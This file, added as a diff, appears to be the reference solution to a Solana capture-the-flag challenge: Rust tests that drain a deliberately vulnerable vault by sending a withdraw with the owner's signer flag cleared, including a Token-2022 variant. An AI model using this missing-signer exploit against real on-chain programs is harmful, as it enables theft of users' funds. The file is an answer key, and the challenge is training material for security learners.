@@ -0,0 +1,165 @@
+//! Reference exploit for native-vault, the non-Anchor port of
+//! missing-signer-check.
+//!
+//! The instruction builders in `native_vault::instruction` mark `owner` as a
+//! signer, the way an honest client calls them. The attacker clears that flag
+//! and the hand-written `withdraw` lets the transfer through anyway.
+
+use ctf_fixtures::assertions::{assert_instruction_fails_with, assert_token_delta, token_balance};
+use ctf_fixtures::{without_signature, CtfEnvironment};
+use native_vault::error::VaultError;
+use native_vault::instruction;
+use solana_sdk::{instruction::AccountMeta, signature::Signer};
+
+const DEPOSIT: u64 = 5_000_000;
+
+#[tokio::test]
+async fn attacker_drains_native_vault_without_the_owner_signature() {
+    let mut env = CtfEnvironment::builder()
+        .seed(native_vault::CHALLENGE_ID)
+        .players(1)
+        .victims(1)
+        .build()
+        .await;
+    let mint = env.mints.usdc;
+    let victim = env.victims[0].pubkey();
+    let attacker = env.players[0].pubkey();
+    let owner = env.victims[0].insecure_clone();
+    let vault_token_account = env
+        .open_native_vault(&owner, &mint, DEPOSIT)
+        .await
+        .expect("victim vault setup");
+    let loot = env
+        .create_token_account(&attacker, &mint)
+        .await
+        .expect("attacker token account");
+    let before = token_balance(&mut env.context.banks_client, &loot).await;
+
+    // Only the environment payer signs
+    env.process(
+        &[without_signature(
+            instruction::withdraw(
+                &victim,
+                &vault_token_account,
+                &loot,
+                &mint.address,
+                &mint.token_program,
+                DEPOSIT,
+            ),
+            &victim,
+        )],
+        &[],
+    )
+    .await
+    .expect("unsigned withdraw");
+
+    assert_token_delta(&mut env.context.banks_client, &loot, before, DEPOSIT as i128).await;
+    assert_token_delta(
+        &mut env.context.banks_client,
+        &vault_token_account,
+        DEPOSIT,
+        -(DEPOSIT as i128),
+    )
+    .await;
+}
+
+#[tokio::test]
+async fn manual_checks_still_reject_a_foreign_owner() {
+    let mut env = CtfEnvironment::builder()
+        .seed(native_vault::CHALLENGE_ID)
+        .players(1)
+        .victims(1)
+        .build()
+        .await;
+    let mint = env.mints.usdc;
+    let victim = env.victims[0].pubkey();
+    let attacker = env.players[0].insecure_clone();
+    let owner = env.victims[0].insecure_clone();
+    let vault_token_account = env
+        .open_native_vault(&owner, &mint, DEPOSIT)
+        .await
+        .expect("victim vault setup");
+    let loot = env
+        .create_token_account(&attacker.pubkey(), &mint)
+        .await
+        .expect("attacker token account");
+
+    // Signing as themselves against the victim's vault trips the owner comparison
+    let mut withdraw = instruction::withdraw(
+        &victim,
+        &vault_token_account,
+        &loot,
+        &mint.address,
+        &mint.token_program,
+        DEPOSIT,
+    );
+    withdraw.accounts[4] = AccountMeta::new_readonly(attacker.pubkey(), true);
+    assert_instruction_fails_with(env.process(&[withdraw], &[&attacker]).await, VaultError::NotOwner);
+
+    // The player's TODO is reached only once every other check passes
+    assert_instruction_fails_with(
+        env.process(
+            &[without_signature(
+                instruction::secure_withdraw(
+                    &victim,
+                    &vault_token_account,
+                    &loot,
+                    &mint.address,
+                    &mint.token_program,
+                    DEPOSIT,
+                ),
+                &victim,
+            )],
+            &[],
+        )
+        .await,
+        VaultError::NotImplemented,
+    );
+}
+
+#[tokio::test]
+async fn token_2022_vaults_drain_the_same_way() {
+    let mut env = CtfEnvironment::builder()
+        .seed(native_vault::CHALLENGE_ID)
+        .players(1)
+        .victims(1)
+        .build()
+        .await;
+    // The transfer fee needs a matching extension on the vault token account,
+    // which `initialize_vault` sizes for
+    let mint = env.mints.fee_mint;
+    let victim = env.victims[0].pubkey();
+    let attacker = env.players[0].pubkey();
+    let owner = env.victims[0].insecure_clone();
+    let vault_token_account = env
+        .open_native_vault(&owner, &mint, DEPOSIT)
+        .await
+        .expect("victim vault setup");
+    let loot = env
+        .create_token_account(&attacker, &mint)
+        .await
+        .expect("attacker token account");
+    // The deposit already paid a fee on the way in
+    let held = token_balance(&mut env.context.banks_client, &vault_token_account).await;
+    assert!(held > 0 && held < DEPOSIT);
+
+    env.process(
+        &[without_signature(
+            instruction::withdraw(
+                &victim,
+                &vault_token_account,
+                &loot,
+                &mint.address,
+                &mint.token_program,
+                held,
+            ),
+            &victim,
+        )],
+        &[],
+    )
+    .await
+    .expect("unsigned withdraw");
+
+    assert_eq!(token_balance(&mut env.context.banks_client, &vault_token_account).await, 0);
+    assert!(token_balance(&mut env.context.banks_client, &loot).await > 0);
+}